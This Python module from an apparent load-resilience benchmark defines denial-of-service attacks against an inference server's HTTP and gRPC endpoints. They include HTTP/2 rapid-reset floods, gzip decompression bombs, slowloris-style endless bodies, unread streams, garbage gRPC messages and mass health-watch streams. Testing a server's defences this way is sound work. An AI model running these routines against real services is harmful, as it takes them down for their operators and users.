"""The attacks, each of which one tenant drives with all that its key, or no key at all, lets it do.

They are no load clients: they write on sockets what no well-behaved client writes, and measure nothing. An
attack is a coroutine that goes on until it is cancelled and counts what became of its requests. What it
sends is made before it begins.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import os
import random
import struct
from collections import Counter
from collections.abc import Mapping
from multiprocessing.connection import Connection
from pathlib import Path

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc
from millrace.common.v1 import chat_pb2
from millrace.inference.v1 import inference_pb2

from benchmarks.neighbour import http2
from benchmarks.neighbour.floods import FLOODS
from benchmarks.neighbour.prompts import PROMPTS
from benchmarks.neighbour.requests import (
    BODIES,
    CHAT,
    CHAT_CALL,
    MEGABYTES_16,
    WIDTHS,
    Attack,
    Target,
    chat_body,
    http2_fields,
    json_fields,
    posted,
    repeatedly,
    request_head,
    sent,
    status,
)

_LIMIT_S = 60.0


async def stalled_streams(target: Target, outcomes: Counter[str]) -> None:
    """Opens 25 streams of 8 choices with 20 log-probabilities each, and reads none of them."""
    path, body = chat_body(
        target,
        json_fields(
            n=8, max_completion_tokens=3500, logprobs=True, top_logprobs=20, stream=True, ignore_eos=True
        ),
    )
    request = request_head(target, path, len(body)) + body

    async def once() -> None:
        reader, writer = await asyncio.open_connection(target.host, target.port, limit=1024)
        writer.transport.get_extra_info("socket").setsockopt(1, 8, 4096)  # SOL_SOCKET, SO_RCVBUF
        writer.write(request)
        outcomes[await status(reader)] += 1
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        await asyncio.sleep(_LIMIT_S)
        writer.close()

    await repeatedly(25, once)


async def _called(channel: grpc.aio.Channel, payload: bytes, target: Target, outcomes: Counter[str]) -> None:
    """One call, read to its end."""
    call = channel.unary_stream(CHAT_CALL)(payload, metadata=(("authorization", f"Bearer {target.key}"),))
    with contextlib.suppress(grpc.RpcError):
        async for _ in call:
            pass
    outcomes[(await call.code()).name] += 1


async def grpc_garbage(target: Target, outcomes: Counter[str]) -> None:
    """Messages of 4 MB that are garbage, and of which a part reads like fields that nobody knows."""
    unknown = b"".join(struct.pack("<BB", 0xA0, 0x7F) + b"\x01" for _ in range(1_300_000))
    noise = random.Random(0).randbytes(4 * 1024 * 1024)
    options = (("grpc.use_local_subchannel_pool", 1),)

    async with grpc.aio.insecure_channel(target.authority(), options=options) as channel:

        async def once() -> None:
            for payload in (unknown, noise, b"\xff" * 64):
                await _called(channel, payload, target, outcomes)

        await repeatedly(16, once)


def grpc_large(num_characters: int) -> Attack:
    """60 messages at a time, each on a connection of its own, of a text that is too long."""

    async def attack(target: Target, outcomes: Counter[str]) -> None:
        head = inference_pb2.ChatRequest(model=target.model)
        head.conversation.messages.add(role=chat_pb2.ROLE_USER, content="a b, c" * (num_characters // 6))
        payload = head.SerializeToString()

        async def once() -> None:
            options = (("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", len(payload)))
            async with grpc.aio.insecure_channel(target.authority(), options=options) as channel:
                await _called(channel, payload, target, outcomes)

        await repeatedly(60, once)

    return attack


async def gzip_bodies(target: Target, outcomes: Counter[str]) -> None:
    """Bodies of 300 KB that unpack to 300 MB, over HTTP and gRPC."""
    packed = gzip.compress(b" " * 300_000_000, 9)
    http = (
        request_head(target, CHAT, len(packed), more="connection: close\r\ncontent-encoding: gzip\r\n")
        + packed
    )

    async def over_grpc() -> None:
        try:
            await _one_http2(
                target,
                _grpc_fields(target, ("grpc-encoding", "gzip")),
                http2.grpc_message(packed, compressed=True),
            )
            outcomes["grpc answered"] += 1
        except OSError:
            outcomes["grpc connection lost"] += 1

    await asyncio.gather(repeatedly(4, lambda: sent(target, http, outcomes)), repeatedly(4, over_grpc))


def _grpc_fields(target: Target, *more: tuple[str, str]) -> list[tuple[str, str]]:
    return http2_fields(target, CHAT_CALL, ("content-type", "application/grpc"), ("te", "trailers"), *more)


async def _one_http2(target: Target, fields: list[tuple[str, str]], body: bytes) -> None:
    """One request on a connection of its own; returns when the first frame of its answer is there."""
    reader, writer = await http2.connected(target.host, target.port)
    try:
        writer.write(http2.headers(1, fields))
        for start in range(0, len(body), http2.MAX_FRAME_BYTES):
            writer.write(http2.data(1, body[start : start + http2.MAX_FRAME_BYTES]))
        writer.write(http2.data(1, b"", ends=True))
        while True:
            head = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(head[:3]))
            if head[3] in (http2.HEADERS, http2.RST_STREAM):
                return
    except asyncio.IncompleteReadError as error:
        raise ConnectionError from error
    finally:
        writer.close()


async def health_watches(target: Target, outcomes: Counter[str]) -> None:
    """Opens 8,000 streams that watch the health, without a key, and leaves them open."""
    channels = [
        grpc.aio.insecure_channel(target.authority(), options=(("grpc.use_local_subchannel_pool", 1),))
        for _ in range(16)
    ]

    async def watch(channel: grpc.aio.Channel) -> None:
        call = health_pb2_grpc.HealthStub(channel).Watch(health_pb2.HealthCheckRequest())
        try:
            await call.read()
            outcomes["watching"] += 1
            await asyncio.sleep(_LIMIT_S)
        except grpc.RpcError as error:
            outcomes[error.code().name] += 1

    try:
        await asyncio.gather(*(watch(channels[index % 16]) for index in range(8000)))
    finally:
        await asyncio.gather(*(channel.close() for channel in channels))


def rapid_reset(*, over_grpc: bool) -> Attack:
    """Opens streams with a key and resets each at once, hundreds in one write."""

    async def attack(target: Target, outcomes: Counter[str]) -> None:
        _, body = chat_body(target)
        fields = http2_fields(target, CHAT, ("content-type", "application/json"))
        if over_grpc:
            fields, body = _grpc_fields(target), http2.grpc_message(b"")

        def stream(number: int) -> bytes:
            return http2.headers(number, fields) + http2.data(number, body, ends=True) + http2.reset(number)

        async def once() -> None:
            try:
                reader, writer = await http2.connected(target.host, target.port)
                number = 1
                while not reader.at_eof() and number < 100_000:
                    writer.write(b"".join(stream(each) for each in range(number, number + 200, 2)))
                    number += 200
                    outcomes["reset"] += 100
                    await writer.drain()
                    # What the server says is not looked at.
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(0.001):
                            await reader.read(1 << 16)
                writer.close()
            except OSError:
                outcomes["connection lost"] += 1

        await repeatedly(8, once)

    return attack


def endless_bodies(*, over_http2: bool, key: bool, width: int = 100) -> Attack:
    """Begins bodies of unknown length, sends them bit by bit, and never ends them."""

    async def attack(target: Target, outcomes: Counter[str]) -> None:
        async def once() -> None:
            try:
                await (_endless_http2 if over_http2 else _endless_http1)(target, outcomes, key)
            except OSError:
                outcomes["connection lost"] += 1

        await repeatedly(width, once)

    return attack


async def _endless_http1(target: Target, outcomes: Counter[str], key: bool) -> None:
    reader, writer = await asyncio.open_connection(target.host, target.port)
    try:
        writer.write(request_head(target, CHAT, None, key=key))
        said = asyncio.ensure_future(status(reader))
        while not said.done():
            writer.write(b"400\r\n" + b" " * 1024 + b"\r\n")
            await writer.drain()
            await asyncio.wait({said}, timeout=0.01)
        outcomes[said.result()] += 1
    finally:
        writer.close()


async def _endless_http2(target: Target, outcomes: Counter[str], key: bool) -> None:
    reader, writer = await http2.connected(target.host, target.port)
    try:
        fields = http2_fields(target, CHAT, ("content-type", "application/json"), key=key)
        writer.write(b"".join(http2.headers(number, fields) for number in range(1, 41, 2)))
        answered = asyncio.ensure_future(_answers(reader, 20))
        while not answered.done():
            writer.write(b"".join(http2.data(number, b" " * 512) for number in range(1, 41, 2)))
            await writer.drain()
            await asyncio.wait({answered}, timeout=0.01)
        outcomes["answered"] += answered.result()
    finally:
        writer.close()


async def _answers(reader: asyncio.StreamReader, count: int) -> int:
    """How many streams were answered, until that many were or the connection ended."""
    found = 0
    with contextlib.suppress(asyncio.IncompleteReadError, OSError):
        while found < count:
            head = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(head[:3]))
            found += head[3] == http2.HEADERS
    return found


async def large_endless_bodies(target: Target, outcomes: Counter[str]) -> None:
    """Sends 60 bodies of 16 MB with a key, but for their last bytes, and waits."""
    part = b'{"model":"' + b"m" * (MEGABYTES_16 - 2048)
    request = request_head(target, CHAT, MEGABYTES_16) + part

    async def once() -> None:
        try:
            reader, writer = await asyncio.open_connection(target.host, target.port)
            writer.write(request)
            try:
                # Not `wait_for`: before Python 3.12 it loses a cancellation that comes with the answer.
                async with asyncio.timeout(_LIMIT_S):
                    outcomes[await status(reader)] += 1
            finally:
                # What was refused is not sent any more, or the attacker would be busy with that alone.
                writer.transport.abort()
        except (OSError, TimeoutError):
            outcomes["connection lost"] += 1
            await asyncio.sleep(0.1)

    await repeatedly(60, once)


ATTACKS: Mapping[str, Attack] = {
    "streams that are not read": stalled_streams,
    **{name: posted(make, width=WIDTHS.get(name, 4)) for name, make in BODIES.items()},
    "garbage over gRPC": grpc_garbage,
    "60 messages of 8 MB over gRPC": grpc_large(8_000_000),
    "60 messages of 15 MB over gRPC": grpc_large(15_000_000),
    "gzip bodies that unpack to 300 MB": gzip_bodies,
    "8,000 health watches without a key": health_watches,
    "rapid reset, HTTP": rapid_reset(over_grpc=False),
    "rapid reset, gRPC": rapid_reset(over_grpc=True),
    "endless bodies, HTTP/1.1, no key": endless_bodies(over_http2=False, key=False),
    "endless bodies, HTTP/2, no key": endless_bodies(over_http2=True, key=False),
    "endless bodies, HTTP/1.1, with a key": endless_bodies(over_http2=False, key=True),
    "60 bodies of 16 MB that never end": large_endless_bodies,
    **FLOODS,
    **PROMPTS,
}


def _stand_back() -> None:
    """Takes the lowest priority. Linux may share processors among sessions first: this is one of its own."""
    os.nice(19)
    os.setsid()
    with contextlib.suppress(OSError):
        Path("/proc/self/autogroup").write_text("19")


def drive(name: str, target: Target, seconds: float, pipe: Connection) -> None:
    """In a process of its own: attacks for so many seconds once it is told to; sends what became of it."""
    _stand_back()
    outcomes: Counter[str] = Counter()
    pipe.send("ready")
    pipe.recv()

    async def attacking() -> None:
        try:
            async with asyncio.timeout(seconds):
                await ATTACKS[name](target, outcomes)
        except TimeoutError:
            pass

    asyncio.run(attacking())
    pipe.send(dict(outcomes))
